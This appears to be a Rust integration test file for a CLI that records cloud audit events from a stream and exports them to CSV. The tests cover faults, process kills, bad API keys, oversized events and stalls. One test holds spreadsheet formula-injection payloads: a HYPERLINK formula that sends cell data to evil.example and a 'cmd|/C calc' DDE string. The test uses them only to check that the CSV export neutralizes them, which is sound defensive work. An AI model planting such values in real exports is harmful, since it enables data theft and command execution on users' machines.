//! Recording: the live path, with faults, kills, bad keys and hostile events.

use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use eventstream_sim::{Scenario, StreamSource, parse_faults};
use tempfile::TempDir;
use tideline_engine::store::Session;

use crate::*;

#[tokio::test(flavor = "multi_thread")]
async fn seed_incident_replay_stores_11_asset_events_and_exports_11_csv_rows() {
    let dir = TempDir::new().unwrap();
    let sim = serve(StreamSource::Replay(fixture("seed-incident.sse")), |_| {}).await;
    let session = dir.path().join("seed.tideline");
    assert_success(&record(&sim.url(), &session, "1", &[]).await);

    let info = info_json(&session);
    assert_eq!(info["asset_events"], 11, "{info}");
    assert_eq!(info["quarantined"], 0, "{info}");
    assert_eq!(info["last_event_id"], "01HX0000000000000000000011");
    assert_eq!(
        info["by_change"],
        serde_json::json!({"create": 3, "update": 6, "delete": 2})
    );

    let (header, rows) = export_rows(&session);
    assert_eq!(
        header.iter().collect::<Vec<_>>(),
        tideline_engine::export::CSV_COLUMNS
    );
    assert_eq!(rows.len(), 11);
    let firewall_open = rows
        .iter()
        .find(|row| &row[15] == "01HX0000000000000000000007")
        .unwrap();
    assert_eq!(&firewall_open[2], "prod-db-sg");
    assert_eq!(&firewall_open[11], "console");
    assert!(
        firewall_open[14].contains("added IpPermissions[0].IpRanges[CidrIp=203.0.113.66/32]"),
        "{:?}",
        &firewall_open[14]
    );
    let times: Vec<&str> = rows.iter().map(|row| row.get(0).unwrap()).collect();
    assert!(
        times.windows(2).all(|pair| pair[0] <= pair[1]),
        "rows are in time order"
    );
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fault_run_stores_exactly_the_manifest_keys_and_quarantines_every_bad_frame() {
    let dir = TempDir::new().unwrap();
    let sim = serve(StreamSource::Scenario(Scenario::Load), |config| {
        config.count = Some(20_000);
        config.size = 1_024;
        config.faults = parse_faults("drop-every=997,dup=0.02,malformed=0.005").unwrap();
    })
    .await;
    let session = dir.path().join("faults.tideline");
    assert_success(&record(&sim.url(), &session, "3", &[]).await);

    let manifest = sim.manifest();
    assert_eq!(manifest.valid.len(), 20_000);
    assert!(
        manifest.duplicates > 0 && manifest.bad > 0,
        "the faults fired: {manifest:?}"
    );
    assert_stored_exactly(&session, &manifest.valid);
    let info = info_json(&session);
    assert_eq!(info["quarantined"], manifest.bad, "{info}");
    assert!(
        info["duplicates"].as_u64().unwrap() >= manifest.duplicates,
        "{info}"
    );
    sim.shutdown().await;
}

/// `--until-idle` times the EventStream's silence, not the session writer's: a writer held up
/// for longer than the limit (here by another connection's write lock on the file) keeps the
/// stream reader waiting in the flush of the stream position before each reconnect (the
/// stream drops every 400 events), and must not end the recording.
#[tokio::test(flavor = "multi_thread")]
async fn until_idle_does_not_count_the_time_a_held_up_writer_keeps_the_stream_waiting() {
    let dir = TempDir::new().unwrap();
    let sim = serve(StreamSource::Scenario(Scenario::Load), |config| {
        config.count = Some(4_000);
        config.size = 256;
        // Two seconds of stream at least: the lock is taken while it flows.
        config.rate = Some(2_000.0);
        config.faults = parse_faults("drop-every=400").unwrap();
    })
    .await;
    let session = dir.path().join("held.tideline");
    let recording = {
        let (url, session) = (sim.url(), session.clone());
        tokio::spawn(async move { record(&url, &session, "1.5", &[]).await })
    };
    wait_until_stored(&session, 500).await;
    let lock = rusqlite::Connection::open(&session).unwrap();
    // Retried at once, not after a sleep: the writer, kept busy by the stream, leaves the
    // lock free only between two of its transactions.
    lock.busy_handler(Some(|attempt| {
        std::thread::yield_now();
        attempt < 10_000_000
    }))
    .unwrap();
    lock.execute_batch("BEGIN IMMEDIATE").unwrap();
    // Over twice the idle limit, and inside the writer's 5 s busy timeout.
    tokio::time::sleep(Duration::from_millis(3_500)).await;
    let sent_while_held = sim.manifest().valid.len();
    lock.execute_batch("COMMIT").unwrap();
    assert_success(&recording.await.unwrap());
    assert!(
        sent_while_held < 4_000,
        "the stream had ended before the lock was released"
    );
    let manifest = sim.manifest();
    assert_eq!(manifest.valid.len(), 4_000, "the whole stream was read");
    assert_stored_exactly(&session, &manifest.valid);
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn record_killed_with_sigkill_resumes_on_the_same_session_without_loss() {
    let dir = TempDir::new().unwrap();
    let sim = serve(StreamSource::Scenario(Scenario::Load), |config| {
        config.count = Some(6_000);
        config.size = 1_024;
        config.rate = Some(2_000.0);
    })
    .await;
    let session = dir.path().join("killed.tideline");
    let mut child = spawn_record(&sim.url(), &session);
    wait_until_stored(&session, 1_500).await;
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    let before = stored_count(&session);
    assert!(before < 6_000, "killed mid-stream ({before} stored)");

    assert_success(&record(&sim.url(), &session, "2", &[]).await);
    assert_stored_exactly(&session, &sim.manifest().valid);
    assert_eq!(stored_keys(&session).len(), 6_000);
    sim.shutdown().await;
}

/// Starts `record` on `session` (no end of its own: the test kills or stops it).
pub(crate) fn spawn_record(url: &str, session: &Path) -> std::process::Child {
    cli()
        .args(["record", "--endpoint", url, "--session"])
        .arg(session)
        .env("TIDELINE_API_KEY", KEY)
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

/// Waits (at most a minute) until `session` holds at least `count` events.
pub(crate) async fn wait_until_stored(session: &Path, count: usize) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while stored_count(session) < count {
        assert!(
            Instant::now() < deadline,
            "the recorder stored fewer than {count}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

pub(crate) fn stored_count(session: &Path) -> usize {
    if !session.exists() {
        return 0;
    }
    Session::open(session)
        .and_then(|s| s.event_keys())
        .map(|keys| keys.len())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_key_stops_record_within_5_s_naming_the_key_problem() {
    let dir = TempDir::new().unwrap();
    let sim = serve(StreamSource::Replay(fixture("seed-incident.sse")), |_| {}).await;
    let session = dir.path().join("wrong-key.tideline");
    let mut command = cli();
    command
        .args(["record", "--endpoint", &sim.url(), "--session"])
        .arg(&session)
        .env("TIDELINE_API_KEY", "not-the-key");
    let started = Instant::now();
    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap();
    let elapsed = started.elapsed();
    assert!(!output.status.success());
    assert!(elapsed < Duration::from_secs(5), "took {elapsed:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("API key rejected"), "{stderr}");
    assert!(!stderr.contains("not-the-key"), "the key was printed");
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_2_mib_event_is_quarantined_with_its_reason_and_the_stream_goes_on() {
    let dir = TempDir::new().unwrap();
    let events = [
        event("before", "arn:aws:iam::1:user/a", "aws-cli/2", 10),
        event(
            "huge",
            "arn:aws:iam::1:user/a",
            "aws-cli/2",
            2 * 1024 * 1024,
        ),
        event("after", "arn:aws:iam::1:user/a", "aws-cli/2", 10),
    ];
    let sim = serve(
        StreamSource::Replay(ndjson(&dir, "big.ndjson", &events)),
        |_| {},
    )
    .await;
    let session = dir.path().join("big.tideline");
    assert_success(&record(&sim.url(), &session, "1", &[]).await);

    let keys: Vec<String> = stored_keys(&session)
        .into_iter()
        .map(|(_, id)| id)
        .collect();
    assert_eq!(keys, ["before", "after"]);
    let quarantined = Session::open(&session).unwrap().quarantined().unwrap();
    assert_eq!(quarantined.len(), 1);
    assert!(
        quarantined[0]
            .reason
            .contains("over the 1048576-byte limit"),
        "{}",
        quarantined[0].reason
    );
    assert!(quarantined[0].raw_len > 2 * 1024 * 1024);
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_principal_and_user_agent_are_neutralized_in_the_csv() {
    let dir = TempDir::new().unwrap();
    let principal = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let user_agent = "@SUM(1+1)*cmd|' /C calc'!A0";
    let events = [event("hostile", principal, user_agent, 1)];
    let sim = serve(
        StreamSource::Replay(ndjson(&dir, "hostile.ndjson", &events)),
        |_| {},
    )
    .await;
    let session = dir.path().join("hostile.tideline");
    assert_success(&record(&sim.url(), &session, "1", &[]).await);

    let (_, rows) = export_rows(&session);
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][9], format!("'{principal}"));
    assert_eq!(&rows[0][13], format!("'{user_agent}"));
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stalled_stream_is_abandoned_after_the_idle_timeout_and_resumed() {
    let dir = TempDir::new().unwrap();
    let sim = serve(StreamSource::Scenario(Scenario::Load), |config| {
        config.count = Some(300);
        config.size = 512;
        config.faults = parse_faults("stall-after=100").unwrap();
    })
    .await;
    let session = dir.path().join("stall.tideline");
    assert_success(&record(&sim.url(), &session, "3", &["--idle-timeout", "1"]).await);
    assert_stored_exactly(&session, &sim.manifest().valid);
    assert_eq!(stored_keys(&session).len(), 300);
    sim.shutdown().await;
}
